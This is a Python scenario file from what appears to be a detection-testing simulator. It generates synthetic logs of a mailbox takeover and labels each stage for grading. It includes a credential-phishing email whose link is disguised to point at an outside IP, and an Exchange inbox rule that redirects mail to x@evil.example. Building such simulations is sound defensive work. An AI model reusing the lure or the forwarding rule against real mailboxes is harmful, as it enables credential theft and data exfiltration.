"""A phishing message, a sign-in with what it got, a forwarding rule, phishing from the inside."""

from __future__ import annotations

from email.utils import formatdate

from exward.model.incident import Verdict
from exward.simulate.acts import cmdlets, mail, web, windows
from exward.simulate.acts.cmdlets import Cmdlet
from exward.simulate.acts.mail import Message
from exward.simulate.acts.web import Request
from exward.simulate.acts.windows import Logon
from exward.simulate.traffic.people import address_of
from exward.simulate.world import DOMAIN, HOUR, MINUTE, PEOPLE, SECOND, World

NAME = "mailbox-takeover"
TITLE = "A phished mailbox: sign-in from outside, a forwarding rule, phishing from the inside"
SERVERS = 1

CLIENT = "203.0.113.88"
RELAY = "198.51.100.240"
VICTIM = "h.ivers"
TARGETS = ("b.cruz", VICTIM, "k.lang", "r.sand")
SENDER = "helpdesk@contoso-mail.example"
SUBJECT = "Action required: your mailbox password expires today"
_PAGE = (
    "<html><body><p>Dear user,</p><p>your password expires today. Verify your account within 24 "
    "hours, or your mailbox will be suspended.</p>"
    '<p><a href="http://203.0.113.88/owa/auth/logon.php?id=">https://mail.contoso.example/owa</a>'
    "</p><p>Sign in with your user name and password to keep your account.</p></body></html>"
)


def play(world: World) -> None:
    """The message comes at 08:55; the mailbox is used from 10:20 on."""
    host = world.host
    for number in range(8):
        web.send(world, host, world.at("06:10:00") + number * 17 * MINUTE, Request(
            address_of(VICTIM), "/owa/service.svc", "action=GetItem&EP=1", "POST",
            user=f"CONTOSO\\{VICTIM}", anchor=f"Sid~{VICTIM}", action="GetItem"))  # fmt: skip
    came = world.at("08:55:00")
    recipients = tuple(f"{name}@{DOMAIN}" for name in TARGETS)
    identifier = mail.transport(world, host, came, Message(SENDER, recipients, SUBJECT, RELAY))
    world.files.append((host, "reported/password.eml", _letter(came, identifier, recipients)))
    world.expect("initial-access", came, "a phishing message is delivered to four mailboxes")
    _take_over(world)
    world.verdicts[host.name] = Verdict.COMPROMISED


def _take_over(world: World) -> None:
    host = world.host
    used = world.at("10:20:00")
    windows.log_on(world, host, used, Logon(VICTIM, CLIENT, 8, windows.WORKER, "Negotiate"))
    for number in range(12):
        web.send(world, host, used + number * 50 * SECOND, Request(
            CLIENT, "/owa/service.svc", "action=FindItem&EP=1", "POST", user=f"CONTOSO\\{VICTIM}",
            anchor=f"Sid~{VICTIM}", action="FindItem", sent=60_000))  # fmt: skip
    world.expect("initial-access", used, "the mailbox is opened from an address never seen before")
    rule = Cmdlet("New-InboxRule", {"Name": "Newsletter", "RedirectTo": "x@evil.example"},
                  caller=VICTIM, process=cmdlets.ECP, client="ECP")  # fmt: skip
    cmdlets.run(world, host, used + 11 * MINUTE, rule)
    world.expect("collection-exfiltration", used + 11 * MINUTE, "a rule redirects mail outside")
    for number, name in enumerate(one for one in PEOPLE if one != VICTIM):
        sent = Message(f"{VICTIM}@{DOMAIN}", (f"{name}@{DOMAIN}",), SUBJECT, client_type="OWA")
        mail.transport(world, host, used + 30 * MINUTE + number * SECOND, sent)
    world.expect("lateral-movement", used + 30 * MINUTE, "the same message is sent to everybody")
    for number in range(3):
        mail.transport(world, host, used + HOUR + number * 9 * MINUTE, Message(
            f"{VICTIM}@{DOMAIN}", ("x@evil.example",), "Contract", source="MAILBOXRULE",
        ))  # fmt: skip


def _letter(time: int, identifier: str, recipients: tuple[str, ...]) -> str:
    sent = formatdate(time // SECOND)
    return (
        f"Received: from mx.contoso-mail.example ({RELAY}) by mail.{DOMAIN}; {sent}\r\n"
        f"From: Contoso IT Helpdesk <{SENDER}>\r\n"
        f"To: {', '.join(recipients)}\r\n"
        f"Subject: {SUBJECT}\r\n"
        f"Date: {sent}\r\n"
        f"Message-ID: {identifier}\r\n"
        "MIME-Version: 1.0\r\n"
        "Content-Type: text/html; charset=utf-8\r\n"
        f"\r\n{_PAGE}\r\n"
    )
